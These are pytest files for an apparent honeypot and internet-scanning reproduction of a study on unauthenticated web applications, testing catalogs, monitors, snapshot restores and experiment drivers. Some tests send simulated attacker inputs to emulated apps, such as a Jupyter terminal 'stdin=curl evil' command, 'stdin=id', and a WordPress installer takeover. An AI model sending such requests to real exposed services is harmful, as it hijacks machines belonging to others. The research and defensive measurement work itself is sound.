    def test_unknown_path_404(self):
        app = create_instance("gocd")
        assert _get(app, "/definitely/not/a/route").status == 404
