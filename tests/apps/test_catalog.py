"""Tests for the application catalog (Table 1 as data)."""

import pytest

from repro.apps.base import AppCategory, VulnKind
from repro.apps.catalog import (
    APP_CATALOG,
    DefaultPosture,
    all_apps,
    app_by_slug,
    create_instance,
    in_scope_apps,
    scanned_ports,
)
from repro.util.errors import ConfigError


class TestCatalogShape:
    def test_25_apps_total(self):
        assert len(all_apps()) == 25

    def test_18_in_scope(self):
        assert len(in_scope_apps()) == 18

    def test_five_per_category(self):
        for category in AppCategory:
            count = sum(1 for s in all_apps() if s.category is category)
            assert count == 5, category

    def test_vuln_kind_distribution_matches_paper(self):
        """7 Syscmd, 5 API, 2 SQL, 4 Install."""
        kinds = [s.vuln_kind for s in in_scope_apps()]
        assert kinds.count(VulnKind.SYSCMD) == 7
        assert kinds.count(VulnKind.API) == 5
        assert kinds.count(VulnKind.SQL) == 2
        assert kinds.count(VulnKind.INSTALL) == 4

    def test_posture_distribution_matches_paper(self):
        """9 insecure by default, 4 changed over time, 5 secure."""
        postures = [s.posture for s in in_scope_apps()]
        assert postures.count(DefaultPosture.INSECURE) == 9
        assert postures.count(DefaultPosture.CHANGED) == 4
        assert postures.count(DefaultPosture.SECURE) == 5

    def test_slugs_unique(self):
        slugs = [s.slug for s in APP_CATALOG]
        assert len(slugs) == len(set(slugs))

    def test_scanned_ports_are_the_papers_12(self):
        assert scanned_ports() == (
            80, 443, 2375, 4646, 6443, 8000, 8080, 8088, 8153, 8192, 8500, 8888,
        )

    def test_changed_posture_has_threshold(self):
        for spec in in_scope_apps():
            if spec.posture is DefaultPosture.CHANGED:
                assert spec.secured_since is not None
                assert spec.secured_year is not None


class TestDefaultMavIn:
    def test_jenkins_old_versions_default_insecure(self):
        spec = app_by_slug("jenkins")
        assert spec.default_mav_in("1.9")
        assert not spec.default_mav_in("2.100")

    def test_insecure_posture_always_default(self):
        spec = app_by_slug("hadoop")
        assert spec.default_mav_in("2.5")
        assert spec.default_mav_in("3.3.1")

    def test_secure_posture_never_default(self):
        spec = app_by_slug("kubernetes")
        assert not spec.default_mav_in("1.0")

    def test_out_of_scope_never_default(self):
        assert not app_by_slug("ghost").default_mav_in("1.0")


class TestCreateInstance:
    def test_unknown_slug(self):
        with pytest.raises(ConfigError):
            app_by_slug("wordstar")

    def test_secure_by_default(self):
        for spec in all_apps():
            instance = create_instance(spec.slug)
            if spec.slug == "polynote":
                assert instance.is_vulnerable()  # cannot be secured at all
            else:
                assert not instance.is_vulnerable(), spec.slug

    def test_vulnerable_for_all_in_scope(self):
        for spec in in_scope_apps():
            instance = create_instance(spec.slug, vulnerable=True)
            assert instance.is_vulnerable(), spec.slug

    def test_vulnerable_out_of_scope_rejected(self):
        with pytest.raises(ConfigError):
            create_instance("ghost", vulnerable=True)

    def test_adminer_vulnerable_picks_old_version(self):
        instance = create_instance("adminer", vulnerable=True)
        assert instance.version_before("4.6.3")

    def test_explicit_incompatible_version_rejected(self):
        with pytest.raises(ConfigError):
            create_instance("adminer", version="4.8", vulnerable=True)

    def test_table1_cells_render(self):
        for spec in all_apps():
            assert spec.default_mav_cell()
            assert spec.warn_cell()
