"""Tests for the release database."""

import random

import pytest

from repro.apps.catalog import all_apps
from repro.apps.versions import RELEASE_DB, SCAN_DATE, ReleaseDatabase, Release
from repro.util.errors import ConfigError


class TestReleaseDatabase:
    def test_all_catalog_apps_have_history(self):
        for spec in all_apps():
            assert RELEASE_DB.releases(spec.slug), spec.slug

    def test_histories_are_sorted(self):
        for slug in RELEASE_DB.slugs():
            dates = [r.date for r in RELEASE_DB.releases(slug)]
            assert dates == sorted(dates), slug

    def test_latest_respects_as_of(self):
        latest_2016 = RELEASE_DB.latest("jenkins", as_of=2016.0)
        assert latest_2016.version.startswith("1.")
        latest_2021 = RELEASE_DB.latest("jenkins", as_of=SCAN_DATE)
        assert latest_2021.version.startswith("2.")

    def test_release_date_lookup(self):
        assert RELEASE_DB.release_date("jupyter-notebook", "4.3") == pytest.approx(2016.95)

    def test_unknown_slug_rejected(self):
        with pytest.raises(ConfigError):
            RELEASE_DB.releases("netscape")

    def test_unknown_version_rejected(self):
        with pytest.raises(ConfigError):
            RELEASE_DB.release_date("jenkins", "99.99")

    def test_is_known_version(self):
        assert RELEASE_DB.is_known_version("wordpress", "5.7")
        assert not RELEASE_DB.is_known_version("wordpress", "0.1")

    def test_next_release_after(self):
        release = RELEASE_DB.next_release_after("jupyter-notebook", 2016.9)
        assert release is not None and release.version == "4.3"

    def test_next_release_after_end_is_none(self):
        assert RELEASE_DB.next_release_after("jenkins", 2050.0) is None

    def test_empty_history_rejected(self):
        with pytest.raises(ConfigError):
            ReleaseDatabase({"empty": []})


class TestSecurityThresholds:
    """The version cut-offs the emulators and population rely on."""

    @pytest.mark.parametrize(
        "slug,version,year",
        [
            ("jenkins", "2.0", 2016),
            ("jupyter-notebook", "4.3", 2016),
            ("joomla", "3.7.4", 2017),
            ("adminer", "4.6.3", 2018),
        ],
    )
    def test_threshold_release_exists_in_the_right_year(self, slug, version, year):
        assert int(RELEASE_DB.release_date(slug, version)) == year


class TestSampling:
    def test_sample_returns_known_release(self):
        rng = random.Random(0)
        for _ in range(50):
            release = RELEASE_DB.sample(rng, "drupal", freshness=0.5)
            assert RELEASE_DB.is_known_version("drupal", release.version)

    def test_high_freshness_skews_new(self):
        rng = random.Random(1)
        fresh = [RELEASE_DB.sample(rng, "wordpress", 0.95).date for _ in range(500)]
        stale = [RELEASE_DB.sample(rng, "wordpress", 0.02).date for _ in range(500)]
        assert sum(fresh) / len(fresh) > sum(stale) / len(stale)

    def test_sample_never_future(self):
        rng = random.Random(2)
        for _ in range(200):
            assert RELEASE_DB.sample(rng, "kubernetes", 0.3).date <= SCAN_DATE

    def test_freshness_bounds_checked(self):
        with pytest.raises(ConfigError):
            RELEASE_DB.sample(random.Random(0), "drupal", 1.5)


def test_release_value_type():
    a, b = Release(2020.0, "1.0"), Release(2021.0, "2.0")
    assert a < b
    assert a.year == 2020
