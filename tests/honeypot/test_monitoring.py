"""Tests for the Beats-style monitor, the central log, and the resource
monitor."""

import pytest

from repro.apps.catalog import create_instance
from repro.honeypot.logstore import CentralLogStore
from repro.honeypot.machine import HoneypotMachine
from repro.honeypot.monitor import AuditEvent, BeatsMonitor, NetworkEvent
from repro.honeypot.resource import ResourceMonitor
from repro.net.http import HttpRequest
from repro.net.ipv4 import IPv4Address
from repro.util.errors import LogIntegrityError

ATTACKER_IP = IPv4Address.parse("93.184.216.66")


@pytest.fixture()
def monitored_jupyter():
    machine = HoneypotMachine(
        name="jupyter-notebook",
        ip=IPv4Address.parse("198.51.100.2"),
        port=8888,
        app=create_instance("jupyter-notebook", vulnerable=True),
    )
    machine.finalize()
    log = CentralLogStore()
    return BeatsMonitor(machine, log), log


class TestBeatsMonitor:
    def test_network_event_recorded_for_every_request(self, monitored_jupyter):
        monitor, log = monitored_jupyter
        monitor.deliver(10.0, ATTACKER_IP, HttpRequest.get("/api/terminals"))
        events = log.network_events()
        assert len(events) == 1
        event = events[0]
        assert isinstance(event, NetworkEvent)
        assert event.path == "/api/terminals"
        assert event.source_ip == ATTACKER_IP

    def test_post_bodies_captured(self, monitored_jupyter):
        """Packetbeat sees POST bodies that never reach web-server logs."""
        monitor, log = monitored_jupyter
        monitor.deliver(
            11.0, ATTACKER_IP,
            HttpRequest.post("/terminals/websocket/1", "stdin=curl evil"),
        )
        assert "stdin=curl evil" in log.network_events()[-1].request_body

    def test_audit_event_on_command_execution(self, monitored_jupyter):
        monitor, log = monitored_jupyter
        monitor.deliver(
            12.0, ATTACKER_IP,
            HttpRequest.post("/terminals/websocket/1", "stdin=id"),
        )
        audits = log.audit_events()
        assert len(audits) == 1
        assert audits[0].command == "id"
        assert audits[0].mechanism == "terminal"

    def test_no_audit_event_without_execution(self, monitored_jupyter):
        monitor, log = monitored_jupyter
        monitor.deliver(13.0, ATTACKER_IP, HttpRequest.get("/"))
        assert log.audit_events() == []


class TestCentralLogStore:
    def test_append_only_sequence(self):
        log = CentralLogStore()
        for i in range(5):
            log.append(("event", i))
        assert [r.sequence for r in log.records()] == list(range(5))

    def test_integrity_verifies_clean_log(self, monitored_jupyter):
        monitor, log = monitored_jupyter
        monitor.deliver(1.0, ATTACKER_IP, HttpRequest.get("/api/terminals"))
        log.verify_integrity()

    def test_tampered_event_detected(self, monitored_jupyter):
        monitor, log = monitored_jupyter
        monitor.deliver(1.0, ATTACKER_IP, HttpRequest.get("/api/terminals"))
        record = log._records[0]
        object.__setattr__(record, "event", "forged")
        with pytest.raises(LogIntegrityError):
            log.verify_integrity()

    def test_removed_record_detected(self, monitored_jupyter):
        monitor, log = monitored_jupyter
        for _ in range(3):
            monitor.deliver(1.0, ATTACKER_IP, HttpRequest.get("/"))
        del log._records[1]
        with pytest.raises(LogIntegrityError):
            log.verify_integrity()

    def test_query_filters(self):
        log = CentralLogStore()
        log.append(AuditEvent("a", 1.0, ATTACKER_IP, "x", "/v", "m", 1))
        log.append(AuditEvent("b", 5.0, ATTACKER_IP, "y", "/v", "m", 2))
        log.append(NetworkEvent("a", 9.0, ATTACKER_IP, "GET", "/", "", 200))
        assert len(log.events(kind="audit")) == 2
        assert len(log.events(honeypot="a")) == 2
        assert len(log.events(since=4.0, until=6.0)) == 1
        assert len(log.events(predicate=lambda e: getattr(e, "command", "") == "x")) == 1

    def test_honeypots_seen(self):
        log = CentralLogStore()
        log.append(AuditEvent("hadoop", 1.0, ATTACKER_IP, "x", "/v", "m", 1))
        assert log.honeypots_seen() == {"hadoop"}


class TestResourceMonitor:
    def test_baseline_under_threshold(self):
        monitor = ResourceMonitor()
        sample = monitor.sample(0.0, "idle")
        assert not monitor.exceeded(sample)

    def test_cryptominer_trips_cpu_threshold(self):
        monitor = ResourceMonitor()
        monitor.apply_load("victim", cpu_percent=95.0, network_mbps=1.0)
        sample = monitor.sample(1.0, "victim")
        assert monitor.exceeded(sample)

    def test_ddos_trips_bandwidth_threshold(self):
        monitor = ResourceMonitor()
        monitor.apply_load("victim", cpu_percent=10.0, network_mbps=80.0)
        assert monitor.exceeded(monitor.sample(1.0, "victim"))

    def test_clear_resets_machine(self):
        monitor = ResourceMonitor()
        monitor.apply_load("victim", 95.0, 0.0)
        monitor.clear("victim")
        assert not monitor.exceeded(monitor.sample(2.0, "victim"))

    def test_machines_over_threshold(self):
        monitor = ResourceMonitor()
        monitor.apply_load("bad", 95.0, 0.0)
        over = monitor.machines_over_threshold(3.0, ["good", "bad"])
        assert over == ["bad"]

    def test_ssh_egress_blocked_by_default(self):
        # The paper blocks outgoing port 22 out-of-band.
        assert ResourceMonitor().ssh_egress_blocked
