"""Tests for honeypot machines: snapshots, restore, firewalling."""

import pytest

from repro.apps.catalog import create_instance
from repro.honeypot.machine import HoneypotMachine
from repro.net.http import HttpRequest
from repro.net.ipv4 import IPv4Address
from repro.util.errors import ConnectionTimeout, SnapshotError


def make_machine(slug="wordpress"):
    return HoneypotMachine(
        name=slug,
        ip=IPv4Address.parse("198.51.100.1"),
        port=80,
        app=create_instance(slug, vulnerable=True),
    )


class TestFirewall:
    def test_blocked_during_setup(self):
        machine = make_machine()
        with pytest.raises(ConnectionTimeout):
            machine.handle(HttpRequest.get("/"))

    def test_open_after_finalize(self):
        machine = make_machine()
        machine.finalize()
        assert machine.handle(HttpRequest.get("/")).is_redirect  # to installer


class TestSnapshotRestore:
    def test_restore_without_snapshot_fails(self):
        machine = make_machine()
        with pytest.raises(SnapshotError):
            machine.restore()

    def test_restore_reverts_compromise(self):
        machine = make_machine()
        machine.finalize()
        machine.handle(
            HttpRequest.post("/wp-admin/install.php", "admin_password=pwned")
        )
        assert not machine.is_vulnerable()  # attacker completed the install
        machine.restore()
        assert machine.is_vulnerable()
        assert machine.restore_count == 1

    def test_restore_produces_fresh_instance(self):
        machine = make_machine()
        machine.finalize()
        old_app = machine.app
        machine.restore()
        assert machine.app is not old_app
        assert machine.app.version == old_app.version

    def test_snapshot_config_isolated_from_later_mutation(self):
        machine = make_machine()
        machine.finalize()
        machine.app.config["installed"] = True
        assert machine.snapshot.config["installed"] is False

    def test_requests_counted(self):
        machine = make_machine()
        machine.finalize()
        machine.handle(HttpRequest.get("/"))
        machine.handle(HttpRequest.get("/wp-login.php"))
        assert machine.requests_seen == 2
