"""Tests for the honeypot fleet."""

import pytest

from repro.apps.catalog import in_scope_apps
from repro.honeypot.fleet import HoneypotFleet
from repro.net.http import HttpRequest
from repro.net.ipv4 import IPv4Address
from repro.util.errors import ConfigError

ATTACKER_IP = IPv4Address.parse("93.184.216.67")


@pytest.fixture()
def fleet():
    fleet = HoneypotFleet.deploy()
    fleet.go_live()
    return fleet


class TestDeployment:
    def test_all_18_in_scope_apps_deployed(self, fleet):
        assert set(fleet.machines) == {s.slug for s in in_scope_apps()}

    def test_every_machine_vulnerable_at_go_live(self, fleet):
        for slug, machine in fleet.machines.items():
            assert machine.is_vulnerable(), slug

    def test_static_distinct_ips(self, fleet):
        ips = {m.ip.value for m in fleet.machines.values()}
        assert len(ips) == 18

    def test_machines_on_default_ports(self, fleet):
        for spec in in_scope_apps():
            assert fleet.machine(spec.slug).port == spec.default_ports[0]

    def test_unknown_slug_rejected(self, fleet):
        with pytest.raises(ConfigError):
            fleet.machine("ghost")

    def test_firewalled_until_go_live(self):
        fleet = HoneypotFleet.deploy()
        assert fleet.deliver(
            "hadoop", 0.0, ATTACKER_IP, HttpRequest.get("/cluster/cluster")
        ) is None


class TestDeliveryAndRestore:
    def test_deliver_reaches_the_app(self, fleet):
        response = fleet.deliver(
            "hadoop", 1.0, ATTACKER_IP, HttpRequest.get("/cluster/cluster")
        )
        assert response.status == 200
        assert len(fleet.log.network_events()) == 1

    def test_availability_sweep_restores_hijacked_cms(self, fleet):
        fleet.deliver(
            "wordpress", 2.0, ATTACKER_IP,
            HttpRequest.post("/wp-admin/install.php", "admin_password=x"),
        )
        assert not fleet.machine("wordpress").is_vulnerable()
        restored = fleet.availability_sweep()
        assert restored == ["wordpress"]
        assert fleet.machine("wordpress").is_vulnerable()

    def test_containment_restores_overloaded_machine(self, fleet):
        fleet.apply_payload_load("hadoop", cpu=95.0, network=1.0)
        restored = fleet.containment_sweep(3.0)
        assert restored == ["hadoop"]
        assert fleet.total_restores() == 1
        # Load cleared: next sweep is quiet.
        assert fleet.containment_sweep(4.0) == []

    def test_restored_machine_still_monitored(self, fleet):
        fleet.apply_payload_load("docker", cpu=99.0, network=0.0)
        fleet.containment_sweep(1.0)
        fleet.deliver("docker", 2.0, ATTACKER_IP, HttpRequest.get("/version"))
        docker_events = fleet.log.network_events(honeypot="docker")
        assert docker_events

    def test_log_integrity_after_activity(self, fleet):
        fleet.deliver("zeppelin", 1.0, ATTACKER_IP, HttpRequest.get("/api/notebook"))
        fleet.log.verify_integrity()
