"""Integration tests for the four experiment drivers."""

import pytest

from repro.analysis.longevity import HostStatus
from repro.util.clock import WEEK


class TestScanStudy:
    def test_report_populated(self, tiny_scan_study):
        assert tiny_scan_study.report.total_awe_hosts() > 100
        assert tiny_scan_study.total_mavs() > 100

    def test_tables_render(self, tiny_scan_study):
        for table in (
            tiny_scan_study.table2(),
            tiny_scan_study.table3(),
            tiny_scan_study.table4(),
        ):
            assert table.render()

    def test_figure1_has_both_groups(self, tiny_scan_study):
        figure = tiny_scan_study.figure1()
        assert sum(figure.overall_secure.values()) > 0
        assert sum(figure.overall_vulnerable.values()) > 0


class TestObserverStudy:
    def test_sweeps_cover_window(self, observer_study, tiny_config):
        expected = int(tiny_config.observation_window // tiny_config.rescan_interval) + 1
        assert observer_study.sweep_count == expected

    def test_every_host_classified_each_sweep(self, observer_study):
        log = observer_study.log
        for time in log.times:
            assert set(log.sweeps[time]) == set(log.hosts)

    def test_initial_sweep_all_vulnerable(self, observer_study):
        log = observer_study.log
        first = log.sweeps[log.times[0]]
        vulnerable = sum(1 for s in first.values() if s is HostStatus.VULNERABLE)
        assert vulnerable / len(first) > 0.95

    def test_rq3_over_half_still_vulnerable(self, observer_study):
        fraction = observer_study.log.still_vulnerable_after(4 * WEEK)
        assert 0.40 < fraction < 0.70  # paper: "over half"

    def test_rq3_two_thirds_at_two_weeks(self, observer_study):
        fraction = observer_study.log.still_vulnerable_after(2 * WEEK)
        assert 0.55 < fraction < 0.80  # paper: "over two thirds"

    def test_fixed_fraction_small(self, observer_study):
        counts = observer_study.final_counts()
        total = len(observer_study.log.hosts)
        assert counts[HostStatus.FIXED] / total < 0.12  # paper: 3.2%

    def test_offline_dominates_exits(self, observer_study):
        counts = observer_study.final_counts()
        assert counts[HostStatus.OFFLINE] > counts[HostStatus.FIXED]

    def test_statuses_never_resurrect_much(self, observer_study):
        """Offline hosts stay offline (no flapping model)."""
        log = observer_study.log
        last = log.sweeps[log.times[-1]]
        mid = log.sweeps[log.times[len(log.times) // 2]]
        for ip, status in mid.items():
            if status is HostStatus.OFFLINE:
                assert last[ip] is HostStatus.OFFLINE

    def test_figure2_renders(self, observer_study):
        text = observer_study.figure2().render()
        assert "vulnerable" in text and "offline" in text


class TestHoneypotStudy:
    def test_total_attacks_2195(self, honeypot_study):
        assert len(honeypot_study.attacks) == 2195

    def test_seven_applications_attacked(self, honeypot_study):
        assert honeypot_study.attacked_applications() == {
            "jenkins", "wordpress", "grav", "docker", "hadoop",
            "jupyterlab", "jupyter-notebook",
        }

    def test_table5_matches_paper(self, honeypot_study):
        rows = {r["App"]: r for r in honeypot_study.table5().as_dicts()}
        assert rows["Hadoop"]["# Attacks"] == 1921
        assert rows["Docker"]["# Attacks"] == 132
        assert rows["Jupyter Notebook"]["# Attacks"] == 99
        assert rows["Jupyter Lab"]["# Attacks"] == 29
        assert rows["WordPress"]["# Attacks"] == 9
        assert rows["Jenkins"]["# Attacks"] == 4
        assert rows["Grav"]["# Attacks"] == 1

    def test_unique_attacks_match_paper(self, honeypot_study):
        rows = {r["App"]: r for r in honeypot_study.table5().as_dicts()}
        assert rows["Hadoop"]["# Uniq. Attacks"] == 49
        assert rows["Jupyter Notebook"]["# Uniq. Attacks"] == 50
        assert rows["Docker"]["# Uniq. Attacks"] == 12

    def test_source_ips_near_160(self, honeypot_study):
        total = honeypot_study.table5().as_dicts()[-1]
        assert 140 <= total["# Uniq. IPs"] <= 175

    def test_table6_first_compromise_times(self, honeypot_study):
        rows = {r["Application"]: r for r in honeypot_study.table6().as_dicts()}
        assert rows["Hadoop"]["First"] < 1.0       # < one hour
        assert rows["WordPress"]["First"] == pytest.approx(2.8, abs=0.2)
        assert rows["Docker"]["First"] == pytest.approx(6.7, abs=0.5)
        assert rows["GravCMS" if "GravCMS" in rows else "Grav"]["First"] > 300

    def test_hadoop_average_gap_minutes(self, honeypot_study):
        rows = {r["Application"]: r for r in honeypot_study.table6().as_dicts()}
        assert rows["Hadoop"]["Average"] < 0.8  # paper: ~20 minutes

    def test_top5_share_two_thirds(self, honeypot_study):
        assert 0.60 < honeypot_study.top_share(5) < 0.75

    def test_top10_share(self, honeypot_study):
        assert 0.78 < honeypot_study.top_share(10) < 0.90

    def test_figure4_multi_app_attackers(self, honeypot_study):
        figure = honeypot_study.figure4()
        assert 8 <= len(figure.multi_app_clusters) <= 12  # paper: 10
        assert 380 <= figure.total_multi_app_attacks <= 460  # paper: 419

    def test_multi_app_pairings(self, honeypot_study):
        pairs = {frozenset(c.honeypots) for c in honeypot_study.figure4().multi_app_clusters}
        assert frozenset({"hadoop", "docker"}) in pairs
        assert frozenset({"jupyterlab", "jupyter-notebook"}) in pairs

    def test_table7_top_countries(self, honeypot_study):
        top = [r["Country"] for r in honeypot_study.table7().as_dicts()[:4]]
        assert "Netherlands" in top
        assert "Brazil" in top

    def test_table8_top_ases(self, honeypot_study):
        providers = [r["Provider"] for r in honeypot_study.table8().as_dicts()]
        assert providers[0] in ("Serverion BV", "Gamers Club")
        assert "DigitalOcean" in providers

    def test_log_chain_intact(self, honeypot_study):
        honeypot_study.fleet.log.verify_integrity()

    def test_restores_happened(self, honeypot_study):
        """Cryptominers trip the resource monitor -> snapshot restores."""
        assert honeypot_study.fleet.total_restores() > 100

    def test_vigilante_observed_on_jupyterlab(self, honeypot_study):
        shutdowns = [
            a for a in honeypot_study.attacks
            if a.honeypot == "jupyterlab"
            and any("shutdown" in c for c in a.commands)
        ]
        assert len(shutdowns) >= 5  # "visited our Jupyter Lab several times"

    def test_nearly_all_events_delivered(self, honeypot_study):
        assert honeypot_study.dropped_events == 0


class TestFullStudy:
    def test_full_study_renders_everything(self, tiny_config):
        from repro.experiments.full_study import run_full_study

        study = run_full_study(tiny_config)
        report = study.render()
        for marker in (
            "Table 1", "Table 2", "Table 3", "Table 4", "Figure 1",
            "Figure 2", "Table 5", "Table 6", "Figure 3", "Figure 4",
            "Table 7", "Table 8", "Table 9", "Headline numbers",
        ):
            assert marker in report, marker

    def test_table9_combines_all_studies(self, tiny_config):
        from repro.experiments.full_study import run_full_study

        study = run_full_study(tiny_config)
        rows = {r["App"]: r for r in study.table9().as_dicts()}
        assert rows["Hadoop"]["Attacks"] == 1921
        assert rows["Hadoop"]["Defend"] == "Scanner 1"
        assert rows["Docker"]["Defend"] == "Scanner 1&Scanner 2"
        assert rows["Nomad"]["Defend"] == "none"
        assert len(rows) == 18


class TestCli:
    def test_defender_experiment(self, capsys):
        from repro.experiments.cli import main

        assert main(["--experiment", "defender"]) == 0
        out = capsys.readouterr().out
        assert "Scanner 1" in out

    def test_out_file(self, tmp_path, capsys):
        from repro.experiments.cli import main

        target = tmp_path / "report.txt"
        assert main(["--experiment", "defender", "--out", str(target)]) == 0
        assert "Scanner" in target.read_text()

    def test_parser_rejects_unknown_experiment(self):
        from repro.experiments.cli import build_parser

        with pytest.raises(SystemExit):
            build_parser().parse_args(["--experiment", "nope"])
