"""Tests for the CLI's extension experiments and markdown output."""


from repro.experiments.cli import build_parser, main


class TestCliExtensions:
    def test_vhosts_experiment(self, capsys):
        assert main(["--experiment", "vhosts"]) == 0
        out = capsys.readouterr().out
        assert "ip-scan (paper)" in out

    def test_packet_loss_experiment(self, capsys):
        assert main(["--experiment", "packet-loss"]) == 0
        out = capsys.readouterr().out
        assert "Loss rate" in out

    def test_recall_recovery_experiment(self, capsys):
        assert main(["--experiment", "recall-recovery"]) == 0
        out = capsys.readouterr().out
        assert "Recall (retry)" in out

    def test_ct_race_experiment(self, capsys):
        assert main(["--experiment", "ct-race"]) == 0
        out = capsys.readouterr().out
        assert "ct-monitor" in out

    def test_markdown_flag_accepted(self):
        args = build_parser().parse_args(["--markdown"])
        assert args.markdown

    def test_seed_override(self, capsys):
        assert main(["--experiment", "defender", "--seed", "99"]) == 0


class TestFigure2Categories:
    def test_category_curves_present(self, observer_study):
        from repro.analysis.longevity import HostStatus

        curves = observer_study.figure2().curves_by_category(HostStatus.VULNERABLE)
        assert set(curves) <= {"CI", "CMS", "CM", "NB", "CP"}
        assert "CM" in curves  # Docker/Hadoop/Nomad dominate the MAVs

    def test_render_includes_categories(self, observer_study):
        assert "category:CM" in observer_study.figure2().render()
