"""Tests for the CLI's extension experiments and markdown output."""


from repro.experiments.cli import build_parser, main


class TestCliExtensions:
    def test_vhosts_experiment(self, capsys):
        assert main(["--experiment", "vhosts"]) == 0
        out = capsys.readouterr().out
        assert "ip-scan (paper)" in out

    def test_packet_loss_experiment(self, capsys):
        assert main(["--experiment", "packet-loss"]) == 0
        out = capsys.readouterr().out
        assert "Loss rate" in out

    def test_recall_recovery_experiment(self, capsys):
        assert main(["--experiment", "recall-recovery"]) == 0
        out = capsys.readouterr().out
        assert "Recall (retry)" in out

    def test_ct_race_experiment(self, capsys):
        assert main(["--experiment", "ct-race"]) == 0
        out = capsys.readouterr().out
        assert "ct-monitor" in out

    def test_markdown_flag_accepted(self):
        args = build_parser().parse_args(["--markdown"])
        assert args.markdown

    def test_seed_override(self, capsys):
        assert main(["--experiment", "defender", "--seed", "99"]) == 0


class TestFigure2Categories:
    def test_category_curves_present(self, observer_study):
        from repro.analysis.longevity import HostStatus

        curves = observer_study.figure2().curves_by_category(HostStatus.VULNERABLE)
        assert set(curves) <= {"CI", "CMS", "CM", "NB", "CP"}
        assert "CM" in curves  # Docker/Hadoop/Nomad dominate the MAVs

    def test_render_includes_categories(self, observer_study):
        assert "category:CM" in observer_study.figure2().render()


class TestSupervisionFlags:
    def test_no_flags_means_no_supervisor(self):
        from repro.experiments.cli import _supervisor_config

        args = build_parser().parse_args([])
        assert _supervisor_config(args) is None

    def test_flags_build_a_supervisor_config(self):
        from repro.experiments.cli import _supervisor_config

        args = build_parser().parse_args([
            "--deadline", "600", "--max-shard-restarts", "1",
            "--quarantine-threshold", "3",
        ])
        config = _supervisor_config(args)
        assert config.sweep_deadline == 600.0
        assert config.max_shard_restarts == 1
        assert config.quarantine_threshold == 3

    def test_partial_flags_keep_defaults(self):
        from repro.core.supervisor import SupervisorConfig
        from repro.experiments.cli import _supervisor_config

        args = build_parser().parse_args(["--deadline", "600"])
        config = _supervisor_config(args)
        assert config.sweep_deadline == 600.0
        assert config.max_shard_restarts == SupervisorConfig().max_shard_restarts
        assert (
            config.quarantine_threshold == SupervisorConfig().quarantine_threshold
        )

    def test_supervised_scan_renders_coverage(self, capsys):
        assert main([
            "--experiment", "scan", "--scale", "tiny", "--deadline", "100000",
        ]) == 0
        out = capsys.readouterr().out
        assert "Coverage by stage" in out
        assert "run status:" in out


class TestChaosExperiments:
    def test_chaos_soak_gate(self):
        """The CI gate in miniature: hostile sweep completes degraded
        with balanced, reconciling coverage books."""
        from repro.experiments.chaos_soak import run_chaos_soak

        soak = run_chaos_soak()
        cov = soak.coverage
        assert cov.degraded
        assert cov.deadline_hits > 0
        assert len(cov.quarantined_hosts) > 0
        assert cov.shard_restarts >= 1
        cov.verify()
        cov.reconcile(soak.report)
        rendered = soak.render()
        assert "DEGRADED" in rendered

    def test_chaos_coverage_severity_curve(self):
        """More severe weather quarantines more and finds fewer MAVs."""
        from repro.experiments.chaos_soak import run_chaos_coverage_study

        study = run_chaos_coverage_study(severities=(0.0, 2.0))
        calm, stormy = study.points
        assert calm.quarantined_hosts == 0
        assert stormy.quarantined_hosts > 0
        assert stormy.mavs_found < calm.mavs_found
        assert "Severity" in study.table().render()
