"""Tests for the incremental longevity campaign."""

import pytest

from repro.core.rescan import load_rescan_state, save_rescan_state
from repro.experiments.config import StudyConfig
from repro.experiments.longevity import run_longevity_study
from repro.net.population import PopulationModel

FRAME = 2_000_000


@pytest.fixture(scope="module")
def campaign():
    return run_longevity_study(
        frame_addresses=FRAME, max_sweeps=4, verify_every=2
    )


class TestCampaign:
    def test_covers_requested_ticks(self, campaign):
        assert campaign.sweep_count == 4
        assert [s.index for s in campaign.sweeps] == [1, 2, 3, 4]

    def test_sampled_sweeps_verified_byte_identical(self, campaign):
        # verify_every=2 over 4 ticks → sweeps 2 and 4, plus the baseline.
        assert campaign.verified_sweeps == 2
        assert campaign.baseline_cost.verified
        assert [s.index for s in campaign.sweeps if s.verified] == [2, 4]

    def test_incremental_sweeps_save_http_traffic(self, campaign):
        assert campaign.savings_factor() > 5.0
        baseline_http = campaign.baseline_cost.http_requests
        for sweep in campaign.sweeps:
            assert sweep.http_requests < baseline_http / 5

    def test_syn_cost_matches_frame(self, campaign):
        # Stage I still sweeps the whole frame every tick, by design.
        ports = campaign.baseline_cost.syn_probes // FRAME
        for sweep in campaign.sweeps:
            assert sweep.syn_probes == FRAME * ports

    def test_vulnerable_population_decays(self, campaign):
        curve = [count for _, count in campaign.decay_curve()]
        assert curve[-1] <= curve[0]
        assert all(b <= a for a, b in zip(curve, curve[1:]))

    def test_render_mentions_verification(self, campaign):
        text = campaign.render()
        assert "verified byte-identical" in text
        assert "savings factor" in text

    def test_final_state_supports_resume(self, campaign, tmp_path):
        path = tmp_path / "campaign.json"
        save_rescan_state(campaign.final_state, path)
        resumed = run_longevity_study(
            frame_addresses=FRAME,
            max_sweeps=1,
            verify_every=1,
            resume_from=load_rescan_state(path),
        )
        assert resumed.baseline_cost.mode == "resumed"
        assert resumed.verified_sweeps == 1
        # The first resumed tick re-validates every previously-live /24.
        assert resumed.sweeps[0].churned_blocks > 100


class TestConfigPlumbing:
    def test_honours_observation_window(self):
        config = StudyConfig(
            population=PopulationModel(
                awe_rate=0.002, vuln_rate=0.05, background_rate=2e-7
            ),
            observation_window=4 * 3600.0,
            rescan_interval=2 * 3600.0,
        )
        study = run_longevity_study(
            config, frame_addresses=FRAME, verify_every=100
        )
        assert study.sweep_count == 2  # window // interval
        # The last tick is always verified even off the sampling grid.
        assert study.sweeps[-1].verified
