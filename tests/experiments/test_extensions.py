"""Tests for the §6.2 extension experiments: CT race, vhost
under-counting, and packet-loss robustness."""

import pytest

from repro.experiments.ct_race import CtRaceConfig, run_ct_race
from repro.experiments.vhosts import VhostStudyConfig, run_vhost_study
from repro.util.clock import HOUR, MINUTE


class TestCtRace:
    @pytest.fixture(scope="class")
    def result(self):
        return run_ct_race(CtRaceConfig(deployments=250))

    def test_every_deployment_logged(self, result):
        assert result.log_size == 250

    def test_ct_monitor_dominates_sweeper(self, result):
        assert result.ct.hijack_rate > 0.9
        assert result.sweep.hijack_rate < 0.6
        assert result.ct.hijack_rate > 2 * result.sweep.hijack_rate

    def test_ct_discovery_is_minutes_not_hours(self, result):
        assert result.ct.median_delay < 10 * MINUTE
        assert result.sweep.median_delay > 1 * HOUR

    def test_outcomes_cover_all_deployments(self, result):
        for outcome in (result.sweep, result.ct):
            assert outcome.hijacked + outcome.missed == 250

    def test_faster_sweep_closes_the_gap(self):
        slow = run_ct_race(CtRaceConfig(deployments=150, sweep_period=48 * HOUR))
